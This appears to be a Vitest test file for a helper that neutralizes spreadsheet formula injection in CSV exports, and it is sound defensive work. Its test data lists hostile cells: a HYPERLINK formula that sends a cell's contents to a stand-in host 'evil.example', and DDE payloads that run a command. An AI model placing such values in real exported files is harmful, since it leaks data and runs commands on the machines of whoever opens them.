import { describe, expect, it } from 'vitest';
import { csvField, csvText, neutralizeCell } from './csv-cells';

describe('spreadsheet-safe CSV cells', () => {
  const hostile = [`=HYPERLINK("http://evil.example/?x="&A1)`, `=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)*cmd|' /C calc'!A0`, '\t=1+1', '\r=1+1'];

  it('turns every cell that a spreadsheet would evaluate into text', () => {
    for (const cell of hostile) expect(neutralizeCell(cell), cell).toBe(`'${cell}`);
  });

  it('leaves ordinary text and numbers alone', () => {
    expect(neutralizeCell('arn:aws:iam::1:role/x')).toBe('arn:aws:iam::1:role/x');
    expect(neutralizeCell('a=b')).toBe('a=b');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(null)).toBe('');
  });

  it('quotes after neutralizing, and keeps cells verbatim when asked', () => {
    expect(csvField(`=HYPERLINK("x")`)).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvField(`=1+1`, { rawCells: true })).toBe('=1+1');
    expect(csvText(['a', 'b'], [[`=1`, 2]])).toBe(`a,b\r\n'=1,2`);
  });
});
